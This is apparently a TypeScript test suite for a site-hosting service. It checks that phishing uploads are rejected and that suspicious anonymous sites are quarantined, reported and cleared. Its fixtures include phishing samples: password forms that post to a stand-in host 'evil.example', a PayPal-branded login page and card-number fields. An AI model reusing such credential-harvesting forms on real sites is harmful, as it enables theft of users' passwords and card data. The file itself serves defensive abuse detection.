/** PIPELINE 3 and CONTRACT 7: the refusal of phishing, and the quarantine of what is only suspicious. */
import { describe, expect, test } from "bun:test";
import { commentedSite } from "../comments/commented.ts";
import { operator as command } from "../kit/operator.ts";
import { type Contents, type DeployResult, startServer } from "../kit/server.ts";
import { sharedServer } from "../kit/shared.ts";
import { zipOf } from "../kit/zip.ts";

const server = await sharedServer("--contact", "abuse@host.example");

const POLICY = "default-src 'self' 'unsafe-inline' 'unsafe-eval' data: blob:; form-action 'self'";
const PHISHING = {
  "index.html": "<title>Hi</title>",
  "docs/login.html": `<form action="//evil.example"><input type=password></form>`,
};
const suspicious = (text: string): Contents => ({
  "index.html": `<!doctype html><title>PayPal – ${text}</title><form><input type=password></form>`,
  "about.html": "<title>About</title>",
  "404.html": "<title>Lost</title>",
  "page.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body/></html>`,
  "icon.svg": `<svg xmlns="http://www.w3.org/2000/svg"/>`,
  "style.css": "a{}",
  "sub/index.html": "<title>Sub</title>",
});
/** The policy of an answer; each has the list of hosts too, or neither. */
const csp = async (slug: string, path = "/", init?: RequestInit): Promise<string | null> => {
  const response = await server.site(slug, path, init);
  await response.body?.cancel();
  const [policy, connections] = ["content-security-policy", "connection-allowlist"].map((name) =>
    response.headers.get(name),
  );
  if (connections !== null || policy?.startsWith("default-src 'self'")) expect(connections).toBe("(response-origin)");
  return policy!;
};
const operator = (...words: string[]) => command(server.data_dir, words);
const reports = async () =>
  JSON.parse((await operator("reports", "--json")).stdout) as {
    kind: string;
    site_id: string;
    slug: string;
    signals?: string[];
    state: string;
  }[];
const heldOf = async (site: DeployResult) =>
  (await reports()).find(({ kind, site_id }) => kind === "quarantine" && site_id === site.site_id);

async function account(name: string): Promise<string> {
  const response = await server.api("/auth/signup", {
    method: "POST",
    body: JSON.stringify({ email: `${name}@example.org`, password: "correct horse battery" }),
    headers: { "content-type": "application/json" },
  });
  return ((await response.json()) as { session_token: string }).session_token;
}

describe("phishing", () => {
  test("is 403 abuse_rejected with path, reason and appeal, and nothing is stored", async () => {
    const before = ["sites", "blobs"].map((table) => server.rows(table));
    const response = await server.post(zipOf(PHISHING));
    expect(response.status).toBe(403);
    const body = (await response.json()) as Record<string, string>;
    expect(body).toMatchObject({ code: "abuse_rejected", path: "docs/login.html", appeal: "abuse@host.example" });
    expect(body["reason"]).toContain("password");
    expect(body["reason"]).toContain("evil.example");
    for (const part of ["docs/login.html", body["reason"]!, "abuse@host.example"])
      expect(body["error"]).toContain(part);
    expect(["sites", "blobs"].map((table) => server.rows(table))).toEqual(before);
  });

  test("is refused on updates and for owned sites too, and what was live stays", async () => {
    const site = await server.deploy({ "index.html": "good" });
    await expect(server.redeploy(site, PHISHING)).rejects.toThrow("abuse_rejected");
    expect(await (await server.site(site.slug)).text()).toContain("good");
    const authorization = `Bearer ${await account("phisher")}`;
    expect((await server.post(zipOf(PHISHING), { authorization })).status).toBe(403);
  });

  test("is refused in a page that Markdown became", async () => {
    const markdown = `# Sign in\n\n<form action="https://evil.example/">\n<input type="password">\n</form>\n`;
    const response = await server.post(zipOf({ "README.md": markdown, "more.md": "# More" }));
    expect([response.status, ((await response.json()) as { code: string }).code]).toEqual([403, "abuse_rejected"]);
  });

  test("a site's own address passes on an update", async () => {
    const site = await server.deploy({ "index.html": "good" });
    const own = `<form action="${site.url}/login"><input type="password"></form>`;
    await server.redeploy(site, { "index.html": own });
    const version = `<form action="${site.url.replace("//", `//${site.version_id}--`)}/"><input type="password"></form>`;
    await server.redeploy(site, { "index.html": version });
    const other = await server.deploy({ "index.html": "other" });
    await expect(server.redeploy(other, { "index.html": own })).rejects.toThrow("abuse_rejected");
  });

  test("without SVC_CONTACT the appeal is null, and the sentence says whom to ask", async () => {
    await using quiet = await startServer();
    const body = (await (await quiet.post(zipOf(PHISHING))).json()) as Record<string, string | null>;
    expect(body["appeal"]).toBeNull();
    expect(body["error"]).toContain("the operator of this server");
  });
});

describe("a suspicious anonymous site is quarantined", () => {
  test("the deploy is answered 200 with a warning that tells the signal", async () => {
    const site = await server.deploy(suspicious("a"));
    const warning = site.warnings.find(({ code }) => code === "suspicious_content")!;
    expect(warning.path).toBe("index.html");
    expect(warning.message).toContain("PayPal");
    expect(warning.message).toContain("borrowed_brand");
    expect(warning.fix_recipe).toContain("abuse@host.example");
    expect(JSON.stringify({ ...site, warnings: [] })).not.toContain("quarantine");
  });

  test("every answer has the policy, on version hosts too: also a text, which a frame makes a page of", async () => {
    const site = await server.deploy(suspicious("b"));
    const version = `${site.version_id}--${site.slug}`;
    for (const host of [site.slug, version]) {
      for (const path of [
        "/",
        "/index.html",
        "/about",
        "/sub/",
        "/page.xhtml",
        "/icon.svg",
        "/style.css",
        "/missing",
      ]) {
        expect([host, path, await csp(host, path)]).toEqual([host, path, POLICY]);
      }
      for (const init of [{ method: "POST" }, { headers: { "if-match": '"x"' } }]) {
        const answer = await server.site(host, "/", init);
        await answer.body?.cancel();
        expect(answer.headers.get("connection-allowlist")).toBe("(response-origin)");
      }
      expect(await csp(host, "/", { method: "POST" })).toStartWith("default-src");
      expect(await csp(host, "/", { headers: { "if-match": '"x"' } })).toStartWith("default-src");
    }
    expect(await csp(site.slug, "/", { method: "HEAD" })).toBe(POLICY);
    expect(await csp(site.slug, "/", { headers: { "accept-encoding": "br" } })).toBe(POLICY);
    expect(await csp(site.slug, "/", { headers: { range: "bytes=0-3", "accept-encoding": "identity" } })).toBe(POLICY);
  });

  test("what the service keeps for itself on the host has a policy too", async () => {
    const site = await server.deploy({ ...suspicious("own"), "404.html": "" });
    for (const path of ["/_svc/c.js", "/_svc/nothing", "/_svc/comments/me", "/_svc/comments/view?page=/"]) {
      for (const accept of ["text/html", "*/*"]) {
        const answer = await server.site(site.slug, path, { headers: { accept } });
        await answer.body?.cancel();
        const { headers } = answer;
        expect([path, accept, headers.get("content-security-policy"), headers.get("connection-allowlist")]).toEqual([
          ...[path, accept],
          expect.stringContaining("default-src"),
          "(response-origin)",
        ]);
      }
    }
  });

  test("a service worker is refused, and its script is there for all else", async () => {
    const site = await server.deploy({ ...suspicious("worker"), "sw.js": "onfetch = () => {}" });
    const worker = { headers: { "service-worker": "script" } };
    for (const again of [1, 2]) {
      expect([again, (await server.site(site.slug, "/sw.js")).status]).toEqual([again, 200]);
      expect([again, (await server.site(site.slug, "/sw.js", worker)).status]).toEqual([again, 404]);
    }
    await operator("clear", site.slug);
    expect((await server.site(site.slug, "/sw.js", worker)).status).toBe(200);
  });

  test("a page that a browser kept from before gets the policy with its 304", async () => {
    const site = await server.deploy({ ...suspicious("kept"), "index.html": "<title>Fine</title>" });
    const first = await server.site(site.slug, "/about");
    expect(first.headers.get("content-security-policy")).toBeNull();
    server.quarantine(site);
    const headers = { "if-none-match": first.headers.get("etag")! };
    const again = await server.site(site.slug, "/about", { headers });
    expect([again.status, again.headers.get("content-security-policy")]).toEqual([304, POLICY]);
    expect(again.headers.get("connection-allowlist")).toBe("(response-origin)");
    await operator("clear", site.slug);
    const cleared = await server.site(site.slug, "/about", { headers });
    expect([cleared.status, cleared.headers.get("content-security-policy")]).toEqual([304, ""]);
    expect(cleared.headers.get("connection-allowlist")).toBe("");
  });

  test("nobody can write a comment there, which its owner would read", async () => {
    const place = await commentedSite(server, "anonymous");
    const visitor = place.visitor();
    expect((await visitor.post("hunter2")).status).toBe(201);
    server.quarantine(place.site);
    const refused = await visitor.post("hunter3");
    expect([refused.status, refused.body.code]).toEqual([404, "comments_off"]);
    const formed = await visitor.send("view", {
      method: "POST",
      body: new URLSearchParams({ page: "/guide.html", body: "hunter4" }),
    });
    expect(formed.status).toBe(404);
    expect((await visitor.send("threads?page=/guide.html")).text).toContain("hunter2");
    await operator("clear", place.site.slug);
    expect((await visitor.post("hunter5")).status).toBe(201);
  });

  test("it belongs to the site: a good version does not lift it, nor does a claim", async () => {
    const site = await server.deploy(suspicious("c"));
    await server.redeploy(site, { "index.html": "<title>All good now</title>" });
    const told = async () => {
      const headers = { authorization: `Bearer ${site.manage_token}` };
      const answer = await server.api(`/sites/${site.site_id}/withheld`, { headers });
      return (await answer.json()) as { quarantine?: string[] };
    };
    expect((await told()).quarantine).toEqual([expect.stringContaining("index.html")]);
    expect(await csp(site.slug)).toBe(POLICY);
    const claimed = await server.api(`/sites/${site.site_id}/claim`, {
      method: "POST",
      body: JSON.stringify({ claim_token: site.claim_token }),
      headers: { "content-type": "application/json", authorization: `Bearer ${await account("claimer")}` },
    });
    expect(claimed.status).toBe(200);
    expect(await csp(site.slug)).toBe(POLICY);
    expect(await csp(`${site.version_id}--${site.slug}`)).toBe(POLICY);
    const other = await server.deploy({ "index.html": "<title>Fine</title>" });
    const headers = { authorization: `Bearer ${other.manage_token}` };
    expect(await (await server.api(`/sites/${other.site_id}/withheld`, { headers })).json()).toEqual({ withheld: [] });
  });

  test("an update can start it", async () => {
    const site = await server.deploy({ "index.html": "<title>Fine</title>" });
    expect(await csp(site.slug)).toBeNull();
    await server.redeploy(site, suspicious("d"));
    expect(await csp(site.slug)).toBe(POLICY);
  });

  test("an owned site is warned alone, also for programs not at all", async () => {
    const authorization = `Bearer ${await account("owner")}`;
    const site = (await (await server.post(zipOf(suspicious("e")), { authorization })).json()) as DeployResult;
    expect(site.warnings.map(({ code }) => code)).toContain("suspicious_content");
    expect(await csp(site.slug)).toBeNull();
    const programs = await server.post(zipOf({ "setup.exe": "MZ", "index.html": "x" }), { authorization });
    expect(((await programs.json()) as DeployResult).warnings.map(({ code }) => code)).not.toContain(
      "suspicious_content",
    );
    const anonymous = await server.deploy({ "setup.exe": "MZ", "index.html": "x" });
    expect(await csp(anonymous.slug)).toBe(POLICY);
  });
});

describe("svc-server reports and clear", () => {
  test("reports lists the site with its signals, as text and as JSON", async () => {
    const site = await server.deploy(suspicious("f"));
    await server.redeploy(site, { "index.html": `<input autocomplete="cc-number"><input name="cvv">` });
    const held = (await heldOf(site))!;
    expect(held).toMatchObject({ kind: "quarantine", slug: site.slug, state: "live" });
    expect(held.signals).toHaveLength(2);
    expect(held.signals![0]).toContain("borrowed_brand");
    expect(held.signals![1]).toContain("card_fields");
    const { stdout, code } = await operator("reports");
    expect(code).toBe(0);
    for (const part of [site.slug, site.site_id, "borrowed_brand", "card_fields"]) expect(stdout).toContain(part);
  });

  test.each([
    ["site_id", (site: DeployResult) => site.site_id],
    ["slug", (site: DeployResult) => site.slug],
    ["URL", (site: DeployResult) => site.url],
  ])("clear by %s ends it at the next request, and is in the audit log", async (kind, name) => {
    const site = await server.deploy(suspicious(`clear by ${kind}`));
    expect(await csp(site.slug)).toBe(POLICY);
    expect((await operator("clear", name(site))).code).toBe(0);
    expect(await csp(site.slug)).toBeNull();
    expect(await csp(`${site.version_id}--${site.slug}`)).toBeNull();
    expect(await heldOf(site)).toBeUndefined();
    const audit = JSON.parse((await operator("audit", "--json")).stdout) as { action: string; site_id: string }[];
    expect(audit.at(-1)).toMatchObject({ action: "clear", site_id: site.site_id });
    expect((await operator("clear", name(site))).stderr).toContain("not in quarantine");
  });

  test("the same version does not bring it back, though it still warns; another suspicious one does", async () => {
    const site = await server.deploy(suspicious("g"));
    await operator("clear", site.slug);
    const again = await server.redeploy(site, suspicious("g"));
    expect(again.warnings.map(({ code }) => code)).toContain("suspicious_content");
    expect(await csp(site.slug)).toBeNull();
    await server.redeploy(site, { "index.html": "<title>Between</title>" });
    await server.redeploy(site, suspicious("g"));
    expect(await csp(site.slug)).toBeNull();
    await server.redeploy(site, suspicious("h"));
    expect(await csp(site.slug)).toBe(POLICY);
  });
});
